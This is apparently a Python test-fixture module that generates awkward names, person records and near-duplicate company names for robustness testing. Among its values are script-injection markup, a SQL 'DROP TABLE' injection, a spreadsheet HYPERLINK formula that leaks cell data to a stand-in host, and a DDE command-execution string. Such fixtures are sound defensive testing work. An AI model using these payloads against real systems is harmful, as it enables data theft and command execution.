"""Awkward sample values: markup, formulas, emoji, right-to-left, as long as may be, and near-duplicates."""

from __future__ import annotations

import unicodedata

NAME_LIMIT = 200

_FORMS = (" GmbH", " AG", " Ltd", " LLC", " Inc.", " ApS", " A/S", " SARL", " S.A.", " S.L.", " Lda")


def awkward_name(name: str, number: int) -> str:
    """Return a name that is hard to show, to search, to sort or to store."""
    choices = (
        f"{name} <script>alert(1)</script>",
        f'=HYPERLINK("https://evil.example/?leak="&A1;"{name}")',
        f"🌻 {name} 🧑🏽‍💻",
        f"{name} \u202eלקוח\u202c",
        f"{name} '; DROP TABLE customers; --",
        f"{name} 100 %_\\",
        (f"{name} · " * 40)[: NAME_LIMIT - 1] + "!",
        f"  {name}   \u00a0 {name[:20]}".strip(),
        f"{name} <img src=x onerror=alert(1)>",
        unicodedata.normalize("NFD", name) + " é",
    )
    return choices[number % len(choices)][:NAME_LIMIT]


def awkward_person(number: int) -> dict[str, str]:
    """Return values of a person that are hard in the same ways."""
    choices: tuple[dict[str, str], ...] = (
        {"first_name": "<b>Ann</b>", "last_name": "<script>alert('person')</script>"},
        {"first_name": "=1+1", "last_name": "+SUM(A1:A9)", "designation": "@cmd|' /C calc'!A0"},
        {"first_name": "👩‍🚀", "last_name": "Zoë 𝒵𝑜𝑒"},
        {"first_name": "Wolfeschlegelstein" * 6, "last_name": "Ö" * 100, "designation": "D" * 50},
        {"email": f"{'a' * 60}@{'b' * 31}.example", "phone": "+49 40 66969 " + "1" * 37},
        {"first_name": "null", "last_name": "undefined", "email": "none@null.example"},
        {"first_name": "Jean\u00a0Paul", "last_name": "d’Arc\u200b"},
        {"email": "double@@at.example"},
    )
    return {name: value[:100] for name, value in choices[number % len(choices)].items()}


def near_duplicate(name: str, number: int) -> str:
    """Return a name that a person would take for the same."""
    shorter = name
    for form in _FORMS:
        shorter = shorter.removesuffix(form)
    choices = (
        shorter if shorter != name else f"{name} Group",
        name.replace(" ", "-", 1),
        "".join(each for each in unicodedata.normalize("NFKD", name) if not unicodedata.combining(each)),
        name.replace(" & ", " und ") if " & " in name else f"The {name}",
        name.upper() + ".",
    )
    return choices[number % len(choices)][:NAME_LIMIT]
